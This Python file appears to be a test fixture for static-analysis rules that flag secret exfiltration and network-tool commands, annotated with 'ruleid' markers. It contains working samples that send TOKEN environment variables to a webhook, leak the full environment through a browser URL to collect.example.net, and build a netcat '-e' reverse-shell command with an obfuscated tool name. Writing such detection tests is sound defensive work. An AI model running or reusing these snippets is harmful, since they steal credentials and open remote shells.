import functools
import json
import os
import subprocess
import threading
import urllib.parse
import urllib.request
import webbrowser

HOOK = "https://hooks.example.net/api/webhooks/1187/abc"


def post_json(url, payload):
    body = json.dumps({"content": json.dumps(payload)}).encode()
    # ruleid: http-client, secret-exfiltration
    req = urllib.request.Request(url, data=body)
    # ruleid: http-client, secret-exfiltration
    urllib.request.urlopen(req, timeout=10)


def secrets_view():
    return {k: v for k, v in os.environ.items() if "TOKEN" in k}


# the function's arguments given through functools.partial, called later
job = functools.partial(post_json, HOOK, secrets_view())
threading.Timer(5.0, job).start()

# a URL opened in the browser carries what it is built of
loot = repr(dict(os.environ))
# ruleid: secret-exfiltration, webbrowser-open
webbrowser.open("https://collect.example.net/p?d=" + urllib.parse.quote(loot))
# ruleid: webbrowser-open
webbrowser.open("https://docs.python.org/3/")


# an argument list a function of the program builds and returns
def relay_cmd(cfg):
    tool = "n" + "c"
    return [tool, "-e", cfg["shell"], cfg["relay"], cfg["port"]]


def start_relay(cfg):
    # ruleid: network-tool-command
    return subprocess.Popen(relay_cmd(cfg))


def ffmpeg_cmd(src, dst):
    return ["ffmpeg", "-i", src, dst]


def convert(src, dst):
    # ok: network-tool-command
    return subprocess.run(ffmpeg_cmd(src, dst), check=True)
